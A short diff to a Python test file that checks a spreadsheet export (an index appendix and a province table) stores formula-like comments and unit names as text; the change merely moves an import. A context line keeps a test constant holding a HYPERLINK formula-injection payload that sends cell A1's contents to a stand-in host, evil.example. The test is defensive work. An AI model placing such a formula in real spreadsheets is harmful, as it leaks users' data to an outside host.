@@ -1,6 +1,8 @@
 """The PAR Index appendix and the province table are safe to open: a comment or a unit name
 that starts like a formula is a text cell (chiso.core.safe_cells), and points stay numbers."""
 
+import io
+
 import pytest
 from openpyxl import load_workbook
 
@@ -15,8 +17,6 @@ LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
 
 
 def _cells(content: bytes):
-    import io
-
     book = load_workbook(io.BytesIO(content))
     return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
 
